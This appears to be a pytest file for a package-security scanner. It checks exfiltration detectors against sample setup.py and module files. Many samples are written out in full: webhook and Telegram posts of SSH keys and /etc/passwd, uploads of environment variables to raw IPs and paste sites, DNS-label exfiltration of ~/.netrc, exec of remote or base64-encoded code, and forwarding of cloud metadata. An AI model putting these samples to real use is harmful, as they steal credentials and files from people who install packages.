"""Exfiltration family: webhooks, paste sites, tunnels, capture hosts, raw IPs, DNS, sockets.

Every sample is inert text written to a temporary directory and scanned; nothing is run.
"""

from __future__ import annotations

import pytest

from depvet.analysis.detectors.exfiltration import Dest, destinations, public_ip
from depvet.model import Severity
from tests.conftest import ScanFiles, rule_ids

DISCORD = (
    "https://discord.com/api/webhooks/1101410369332842536/8ExOBxDpcRxf0yB3tYrohX_85Az66PJmJI6PysIQt1J7Wy"
)
TELEGRAM_TOKEN = "5976658431:AAHq3hE9x_7v2Kc1nNw4oQ8mZrT0yLpB6sD"
SETUP = "from setuptools import setup\nimport os, socket, getpass, requests\n"

MUST_TRIGGER: list[tuple[str, dict[str, str]]] = [
    # DV401: webhook through a module constant, a wrapper function, a client class, curl, Telegram
    (
        "DV401",
        {
            "setup.py": SETUP
            + f"hook = '{DISCORD}'\n"
            + "from urllib.request import Request, urlopen\n"
            + "def LoadUrlib(hook, data='', headers=''):\n"
            + "    return urlopen(Request(hook, data=data, headers=headers))\n"
            + 'LoadUrlib(hook, data=b\'{"content": "x"}\')\n'
            + "setup(name='x')\n"
        },
    ),
    (
        "DV401",
        {
            "pkgx/__init__.py": (
                "from discord_webhook import DiscordWebhook\nimport platform\n"
                f"DiscordWebhook(url='{DISCORD}', content=platform.node()).execute()\n"
            )
        },
    ),
    (
        "DV401",
        {
            "pkgx/__init__.py": (
                "import requests, os\n"
                f"TOKEN = '{TELEGRAM_TOKEN}'\nCHAT = '5976658431'\n"
                "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument?chat_id={CHAT}',\n"
                "              files={'document': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')})\n"
            )
        },
    ),
    (
        "DV401",
        {
            "setup.py": SETUP
            + "import subprocess\n"
            + f"subprocess.run('curl -H \"Content-Type: application/json\" -d @/tmp/x {DISCORD}', shell=True)\n"
        },
    ),
    ("DV401", {"steal.sh": f"#!/bin/sh\ncurl -X POST -F file=@/etc/passwd '{DISCORD}'\n"}),
    # DV402: install/import-time send to a capture host, a paste site, a file-drop, a raw IP
    (
        "DV402",
        {
            "setup.py": SETUP
            + "requests.get('jg360c2v1lbkgalt0tygti71hsnkbmzb.oastify.com', params={'h': socket.gethostname()})\n"
        },
    ),
    (
        "DV402",
        {
            "pkgx/__init__.py": (
                "import requests, os\n"
                'url = f\'https://{requests.get("https://api.gofile.io/getServer").json()["s"]}.gofile.io/upload\'\n'
                "requests.post(url, files={'file': open(os.path.expanduser('~/.bash_history'), 'rb')})\n"
            )
        },
    ),
    (
        "DV402",
        {
            "pkgx/_client.py": (
                "import urllib.request, json, os\n"
                "C2 = 'http://83.142.209.203:8080/'\n"
                "urllib.request.urlopen(urllib.request.Request(C2, data=json.dumps(dict(os.environ)).encode()))\n"
            )
        },
    ),
    (
        "DV402",
        {
            "setup.py": SETUP
            + "import os\nos.system('curl -s https://eo60j7pi241k8sx.m.pipedream.net/$(whoami)')\n"
        },
    ),
    # DV403: install/import-time download from a paste site or tunnel
    (
        "DV403",
        {
            "pkgx/__init__.py": (
                "import requests\nexec(requests.get('https://pastebin.com/raw/Xy12AbCd').text)\n"
            )
        },
    ),
    (
        "DV403",
        {
            "pkgx/__init__.py": "import urllib.request as u\nu.urlretrieve('https://a1b2.ngrok-free.app/s.bin', '/tmp/s')\n"
        },
    ),
    # DV404: the same destinations in functions nobody calls automatically
    (
        "DV404",
        {
            "pkgx/report.py": (
                "import requests\n\ndef send(text):\n"
                "    requests.post('https://paste.ee/api/v1/pastes', json={'sections': [{'contents': text}]})\n"
            )
        },
    ),
    (
        "DV404",
        {
            "pkgx/net.py": "import requests\n\ndef beacon(d):\n    requests.get('http://45.148.10.212:8443/b', params=d)\n"
        },
    ),
    # DV405: computed DNS names under a fixed domain
    (
        "DV405",
        {
            "setup.py": SETUP
            + "dn = getpass.getuser() + '.' + socket.gethostname()\n"
            + "dn = dn + '.425a2.rt11.ml'\nsocket.gethostbyname(dn)\n"
        },
    ),
    (
        "DV405",
        {"setup.py": SETUP + "os.system('nslookup ' + os.getlogin() + '.beacon.exfil-domain.net')\n"},
    ),
    ("DV405", {"ping.sh": "#!/bin/sh\nnslookup $(whoami).$(hostname).x.exfil-domain.net\n"}),
    # DV406: encoded labels
    (
        "DV406",
        {
            "pkgx/__init__.py": (
                "import socket, os, binascii\n"
                "data = binascii.hexlify(open(os.path.expanduser('~/.netrc'), 'rb').read()).decode()\n"
                "for i in range(0, len(data), 60):\n"
                "    socket.getaddrinfo(f'{i}.{data[i:i + 60]}.h4ck.cfd', 53)\n"
            )
        },
    ),
    (
        "DV406",
        {
            "pkgx/__init__.py": (
                "import base64, getpass\nfrom dns import resolver\n"
                "r = resolver.Resolver()\n"
                "q = base64.b32encode(getpass.getuser().encode()).decode().rstrip('=')\n"
                "r.resolve(q + '.oob.collector.net', 'TXT')\n"
            )
        },
    ),
    # DV407: raw socket to a fixed external host
    (
        "DV407",
        {
            "pkgx/__init__.py": (
                "import socket, os\n"
                "with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n"
                "    s.connect(('securedmaininfo5.zapto.org', 3000))\n"
                "    s.sendall(os.getcwd().encode())\n"
            )
        },
    ),
    (
        "DV407",
        {
            "setup.py": SETUP
            + "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            + "u.sendto(socket.gethostname().encode(), ('collector.example-c2.net', 5353))\n"
        },
    ),
    # DV408: metadata response forwarded
    (
        "DV408",
        {
            "pkgx/__init__.py": (
                "import requests\n"
                "tok = requests.put('http://169.254.169.254/latest/api/token',\n"
                "                   headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text\n"
                "doc = requests.get('http://169.254.169.254/latest/meta-data/iam/info',\n"
                "                   headers={'X-aws-ec2-metadata-token': tok}).text\n"
                "requests.post('https://stats.example-metrics.io/c', data={'d': doc})\n"
            )
        },
    ),
]

MUST_NOT_TRIGGER: list[tuple[str, dict[str, str]]] = [
    # a webhook client library: the URL is a parameter; docs and regexes name the host
    (
        "DV401",
        {
            "slackish/webhook.py": (
                "import requests\n"
                "EXAMPLE = 'https://hooks.slack.com/services/T000/B000/XXXX'  # shown in docs\n\n"
                "class WebhookClient:\n"
                "    def __init__(self, url):\n        self.url = url\n"
                "    def send(self, text):\n"
                "        return requests.post(self.url, json={'text': text})\n"
            )
        },
    ),
    (
        "DV401",
        {
            "discordish/http.py": (
                "import requests\nBASE = 'https://discord.com/api/v10'\n\n"
                "def execute_webhook(webhook_id, token, payload):\n"
                "    return requests.post(f'{BASE}/webhooks/{webhook_id}/{token}', json=payload)\n"
            )
        },
    ),
    ("DV401", {"README.sh": f"#!/bin/sh\n# post to {DISCORD} when done\necho done\n"}),
    # a host named but never contacted; private and loopback addresses
    (
        "DV402",
        {"setup.py": SETUP + "PASTE_HOSTS = ['pastebin.com', 'paste.ee', 'transfer.sh']\nsetup(name='x')\n"},
    ),
    ("DV402", {"pkgx/__init__.py": "import requests\nrequests.get('http://127.0.0.1:8080/health')\n"}),
    ("DV403", {"pkgx/__init__.py": "import requests\nSTATUS = requests.get('http://192.168.1.10:8080/')\n"}),
    ("DV403", {"pkgx/__init__.py": "import requests\nr = requests.get('https://pypi.org/pypi/pkgx/json')\n"}),
    ("DV404", {"pkgx/links.py": "def is_paste(url):\n    return url.startswith('https://pastebin.com/')\n"}),
    (
        "DV404",
        {"tests/test_net.py": "import requests\n\ndef test_x():\n    requests.get('http://8.8.8.8')\n"},
    ),
    # DNS of names from configuration without a fixed domain; localhost; reverse lookups
    ("DV405", {"pkgx/__init__.py": "import socket\nADDR = socket.gethostbyname(socket.gethostname())\n"}),
    (
        "DV405",
        {
            "pkgx/k8s.py": (
                "import socket\n\ndef find(svc, ns):\n"
                "    return socket.gethostbyname(f'{svc}.{ns}.svc.cluster.local')\n"
            )
        },
    ),
    (
        "DV406",
        {
            "pkgx/__init__.py": "import socket, base64\nK = base64.b32encode(b'k')\nsocket.gethostbyname('x.org')\n"
        },
    ),
    # a socket to localhost, or to a public resolver to learn the local address
    (
        "DV407",
        {
            "pkgx/__init__.py": (
                "import socket\ns = socket.socket()\ns.connect(('localhost', 6379))\ns.sendall(b'PING\\r\\n')\n"
            )
        },
    ),
    (
        "DV407",
        {
            "pkgx/ip.py": "import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.connect(('8.8.8.8', 80))\n"
        },
    ),
    # metadata used, not forwarded
    (
        "DV408",
        {
            "pkgx/aws.py": (
                "import requests\n\ndef creds():\n"
                "    role = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n"
                "    return requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role).json()\n\n"
                "def call(body):\n"
                "    return requests.post('https://sts.amazonaws.com/', data=body)\n"
            )
        },
    ),
]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_TRIGGER)]
)
def test_must_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_NOT_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_NOT_TRIGGER)]
)
def test_must_not_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id not in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


def test_webhook_in_a_function_is_high_not_critical(scan_files: ScanFiles) -> None:
    code = f"import requests\n\ndef notify(msg):\n    requests.post('{DISCORD}', json={{'content': msg}})\n"
    result = scan_files({"pkgx/notify.py": code})
    severities = {f.severity for f in result.findings if f.rule_id == "DV401"}
    assert severities == {Severity.HIGH}


def test_webhook_send_is_marked_for_flow(scan_files: ScanFiles) -> None:
    code = f"import requests, os\nrequests.post('{DISCORD}', json={{'c': dict(os.environ)}})\n"
    result = scan_files({"pkgx/__init__.py": code})
    assert "DV401" in rule_ids(result)
    assert all(f.severity is Severity.CRITICAL for f in result.findings if f.rule_id == "DV401")


def test_decoded_payload_reports_at_origin(scan_files: ScanFiles) -> None:
    import base64

    inner = "import requests\nrequests.post('https://transfer.sh/x', data=open('/etc/passwd').read())\n"
    blob = base64.b64encode(inner.encode()).decode()
    result = scan_files({"setup.py": f"import base64\nexec(base64.b64decode('{blob}'))\n"})
    found = [f for f in result.findings if f.rule_id == "DV402"]
    assert found
    assert found[0].line == 2
    assert "decoded" in found[0].evidence


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("https://cd3erga2vtc0000zbam0ggtzqp.oast.fun/x", Dest.CAPTURE),
        ("https://\x00.gofile.io/uploadFile", Dest.FILEDROP),
        ("http://83.142.209.203:8080/ringtone.wav", Dest.RAW_IP),
        ("https://abc.trycloudflare.com", Dest.TUNNEL),
        ("https://hooks.slack.com/services/T000/B000/XXXXXXXX", Dest.WEBHOOK),
    ],
)
def test_destinations(text: str, kind: str) -> None:
    assert [d.kind for d in destinations(text)] == [kind]


@pytest.mark.parametrize(
    "text",
    [
        "https://profile.io/x",
        "https://example.com/pastebin.com.html",
        "http://10.0.0.1:8080/",
        "http://192.0.2.1/",
        "https://discord.com/api/webhooks/\x00/\x00",
        "https://github.com/pastebin",
    ],
)
def test_not_destinations(text: str) -> None:
    assert destinations(text) == []


def test_public_ip() -> None:
    assert public_ip("83.142.209.203")
    assert not public_ip("8.8.8.8")  # a public resolver: used to learn the local address
    assert not public_ip("169.254.169.254")
    assert not public_ip("172.16.3.4")


@pytest.mark.parametrize(
    ("command", "found"),
    [("nslookup $(whoami).c2.attacker-domain.net", True), ("ping localhost", False)],
)
def test_dns_lookup_in_a_minified_line(scan_files: ScanFiles, command: str, found: bool) -> None:
    # A bundle is one line of hundreds of kilobytes; the lookup sits deep inside it.
    filler = "var a=function(b){return b+1};" * 2000
    bundle = f'{filler}require("child_process").execSync("{command} ");{filler}\n'
    result = scan_files({"pkg/__init__.py": "", "pkg/static/app.min.js": bundle}, artifact="wheel")
    assert ("DV405" in rule_ids(result)) is found
